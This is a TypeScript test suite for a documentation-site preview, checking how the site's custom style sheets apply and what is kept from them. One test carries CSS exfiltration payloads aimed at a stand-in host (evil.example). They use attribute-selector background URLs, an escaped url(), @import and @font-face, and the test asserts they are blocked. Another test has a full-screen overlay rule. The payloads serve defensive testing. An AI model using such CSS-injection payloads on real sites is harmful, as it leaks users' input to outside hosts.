// The site's own style sheets in the preview: what they affect and what they do not.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { useBrowser } from './tools/previewBrowser.ts';

const browser = useBrowser();
const config = JSON.stringify({
  name: 'S',
  colors: { primary: '#0f6b62' },
  navigation: [{ group: 'Group', pages: ['page', 'other'] }],
});

const page = `<div className="hero header" id="mine">Hero <span className="dark:text-red-500 md:hidden">span</span></div>

<Card title="Card">Text</Card>

<input type="text" />

<div className="far">Far</div>

<style>{\`
  .own { color: rgb(9, 9, 9) }
\`}</style>

<p className="own">Own</p>

<iframe src="https://far.example.com/x" title="Far"></iframe>

{window.notKnown()}
`;

test('style sheets reach the page and the documented hooks, live, and never the preview’s controls', async () => {
  const files = new Map([
    ['docs.json', config],
    ['page.mdx', page],
    ['other.mdx', 'Text'],
    [
      'style.css',
      `.hero { color: rgb(1, 2, 3) } #mine { margin-top: 77px } .header { padding-left: 5px }
.card { border-color: rgb(4, 5, 6) } #sidebar { background: rgb(7, 8, 9) } .sidebar-group { color: rgb(10, 11, 12) }
.sidebar-title { color: rgb(13, 14, 15) } #navbar { background: rgb(16, 17, 18) }
.far { position: fixed; inset: 0; z-index: 2147483647 }
html.dark .hero { color: rgb(20, 21, 22) }
div, aside, button, span, p { scroll-margin-top: 33px !important }
.view-strip, .box, body, html { }
.view-strip { display: none !important } * { outline-color: rgb(1, 1, 1) !important }`,
    ],
  ]);
  const preview = await browser.open(files, { width: 1280 });
  await preview.show('page.mdx');
  const look = (): Promise<Record<string, string>> =>
    preview.page.evaluate(() => {
      const of = (selector: string, property: string): string => {
        const element = document.querySelector(selector);
        return element === null ? 'missing' : getComputedStyle(element).getPropertyValue(property);
      };
      const far = document.querySelector('.far')?.getBoundingClientRect();
      const content = document.querySelector('#ds-blocks')?.getBoundingClientRect();
      return {
        hero: of('.hero', 'color'),
        mine: of('.hero', 'margin-top'),
        own: of('.hero', 'padding-left'),
        bar: of('.header', 'padding-left'),
        card: of('.card', 'border-top-color'),
        sidebar: of('#ds-sidebar', 'background-color'),
        title: of('.nav-title', 'color'),
        navbar: of('#ds-header', 'background-color'),
        paragraph: of('.own', 'color'),
        box: of('.box', 'scroll-margin-top'),
        strip: of('.view-strip', 'display'),
        stripLetters: of('.view-strip button', 'scroll-margin-top'),
        far: String(
          far !== undefined && content !== undefined && far.top >= content.top - 1 && far.left >= content.left - 1,
        ),
      };
    });
  const { bar, ...seen } = await look();
  assert.notEqual(bar, '5px');
  assert.notEqual(seen['strip'], 'none');
  delete seen['strip'];
  assert.deepEqual(seen, {
    hero: 'rgb(1, 2, 3)',
    mine: '77px',
    own: '5px',
    card: 'rgb(4, 5, 6)',
    sidebar: 'rgb(7, 8, 9)',
    title: 'rgb(13, 14, 15)',
    navbar: 'rgb(16, 17, 18)',
    paragraph: 'rgb(9, 9, 9)',
    box: '0px',
    stripLetters: '0px',
    far: 'true',
  });
  preview.change('style.css', '.hero { color: rgb(99, 2, 3) }');
  await preview.show('page.mdx');
  assert.equal((await look())['hero'], 'rgb(99, 2, 3)');
});

test('no rule loads anything from another host; an image of the site is loaded', async () => {
  const rules = `input[type^="t"], .hero[id^="p-m"] { background: url("https://evil.example/leak") }
.hero { background-image: url(/img/a.png); list-style: u\\72l(https://evil.example/x); --a: url(https://evil.example/y); cursor: var(--a), auto }
@import "https://evil.example/z.css"; @font-face { font-family: F; src: url(https://evil.example/f.woff2) } .hero { font-family: F }`;
  const files = new Map([
    ['docs.json', config],
    ['page.mdx', page],
    ['style.css', rules],
    ['img/a.png', ''],
  ]);
  const preview = await browser.open(files, { width: 900 });
  await preview.show('page.mdx');
  await preview.page.waitForLoadState('networkidle');
  assert.deepEqual(
    preview.requests.filter((url) => url.includes('evil')),
    [],
  );
  const css = await preview.page.evaluate(() => document.querySelector('style[data-styles="site"]')?.textContent ?? '');
  assert.match(css, /img\/a\.png/);
  // The control: an allowed host is requested.
  const allowed = await browser.open(files, { width: 900, host: { allowedHosts: new Set(['evil.example']) } });
  await allowed.show('page.mdx');
  const open = await allowed.page.evaluate(
    () => document.querySelector('style[data-styles="site"]')?.textContent ?? '',
  );
  assert.match(open, /url\("https:\/\/evil\.example\/leak"\)/);
});

test('not-prose resets styles; marks keep their look inside styled content', async () => {
  const files = new Map([
    ['docs.json', config],
    [
      'page.mdx',
      `<div className="not-prose">
  <h2>Plain</h2>
  <ul><li>Item</li></ul>
  <a href="/other">Link</a>
  <p>Words with <strong>weight</strong> and <code>code</code></p>
  <Card title="A card">Text</Card>
</div>

<Card title="A card" href="/other">Text</Card>

<img className="block dark:hidden" src="/img/light.png" alt="Light" />
<img className="hidden dark:block" src="https://far.example.com/dark.png" alt="Dark" />

<div className="loud">

{window.notKnown()}

</div>

{window.notKnown()}
`,
    ],
    ['other.mdx', 'Text'],
    [
      'style.css',
      `.loud { letter-spacing: 9px; text-transform: uppercase; visibility: hidden; font-size: 0; text-indent: 50px;
  color: transparent; -webkit-text-fill-color: transparent; line-height: 0 }`,
    ],
  ]);
  const preview = await browser.open(files, { width: 1280 });
  await preview.show('page.mdx');
  const looks = await preview.page.evaluate(() => {
    const look = (element: Element | null | undefined, names: readonly string[]): string =>
      element === null || element === undefined
        ? 'missing'
        : names.map((name) => getComputedStyle(element).getPropertyValue(name)).join(' ');
    const standIns = [...document.querySelectorAll('.stand-in')];
    const marks = [...document.querySelectorAll('#ds-blocks .box-label')];
    const all = [
      'letter-spacing',
      'text-transform',
      'visibility',
      'color',
      'text-indent',
      '-webkit-text-fill-color',
      'font-size',
    ];
    const cards = [...document.querySelectorAll('.card')].map((card) =>
      look(card.querySelector('.card-title'), ['font-size', 'font-weight', 'color']),
    );
    return {
      heading: look(document.querySelector('.not-prose h2'), ['font-size', 'font-weight', 'margin-top']),
      list: look(document.querySelector('.not-prose ul'), ['list-style-type', 'padding-left', 'margin-top']),
      link: look(document.querySelector('.not-prose a:not(.card)'), ['text-decoration-line']),
      words: look(document.querySelector('.not-prose p'), ['margin-top']),
      code: look(document.querySelector('.not-prose code'), ['padding-left', 'border-top-width']),
      cards,
      standIns: standIns.map((each) => getComputedStyle(each).display),
      marks: marks.map((mark) => look(mark, all)),
    };
  });
  const { cards, marks, standIns, ...plain } = looks;
  assert.deepEqual(standIns, ['flex', 'none'], 'of two pictures the one of the mode');
  assert.deepEqual(plain, {
    heading: '16px 400 0px',
    list: 'none 0px 0px',
    link: 'none',
    words: '0px',
    code: '0px 0px',
  });
  assert.equal(cards.length, 2);
  assert.equal(cards[0], cards[1]);
  assert.ok(marks.length >= 2, JSON.stringify(marks));
  assert.equal(new Set(marks).size, 1, marks.join('\n'));
});

test('a variable in an inline style, a <style> in a snippet, and parts of the chrome by their documented names', async () => {
  const files = new Map([
    [
      'docs.json',
      JSON.stringify({
        $schema: 'https://mintlify.com/docs.json',
        theme: 'mint',
        name: 'S',
        colors: { primary: '#0f6b62' },
        footer: { links: [{ header: 'H', items: [{ label: 'a', href: 'https://example.com' }] }] },
        navigation: {
          languages: [
            { language: 'en', pages: ['page'] },
            { language: 'fr', pages: ['other'] },
          ],
        },
      }),
    ],
    [
      'page.mdx',
      `import Note from '/snippets/note.mdx'

<Note />

<p style={{ '--mine': 'rgb(1, 2, 3)', color: 'var(--mine)' }} className="varied">Varied</p>

<AccordionGroup><Accordion title="A">Text</Accordion></AccordionGroup>

<Tabs><Tab title="T" icon="rocket">Text</Tab></Tabs>

<Badge color="blue">B</Badge> <Badge color="red">R</Badge>

<Tree><Tree.Folder name="src"><Tree.File name="a.ts" /></Tree.Folder></Tree>
`,
    ],
    ['other.mdx', 'Text'],
    ['snippets/note.mdx', '<style>{`.note { color: rgb(4, 5, 6) }`}</style>\n\n<p className="note">Note</p>\n'],
    [
      'style.css',
      `#localization-select-trigger, .advanced-footer, .accordion-group, .tab-icon, tree-file,
[data-badge][data-color="blue"], footer, callout { scroll-margin-top: 77px }`,
    ],
  ]);
  const preview = await browser.open(files, { width: 1280 });
  await preview.show('page.mdx');
  const seen = await preview.page.evaluate(() => {
    const marked = [...document.querySelectorAll('*')].filter(
      (each) => getComputedStyle(each).scrollMarginTop === '77px',
    );
    const color = (selector: string): string => {
      const element = document.querySelector(selector);
      return element === null ? 'missing' : getComputedStyle(element).color;
    };
    return {
      varied: color('.varied'),
      note: color('.note'),
      marked: marked.map((each) => each.getAttribute('aria-label') ?? (each.textContent ?? '').trim()),
      tabIcon: marked.some((each) => each.matches('.tab-button .icon')),
      footer: marked.some((each) => each.matches('#ds-footer')),
      accordions: marked.some((each) => each.matches('.accordions')),
    };
  });
  assert.deepEqual([seen.varied, seen.note], ['rgb(1, 2, 3)', 'rgb(4, 5, 6)']);
  assert.ok(seen.tabIcon && seen.footer && seen.accordions, JSON.stringify(seen));
  for (const name of ['Language', 'B', 'a.ts'])
    assert.ok(seen.marked.includes(name), `${name}: ${seen.marked.join(' | ')}`);
  for (const name of ['R', 'src']) assert.ok(!seen.marked.includes(name), name);
});
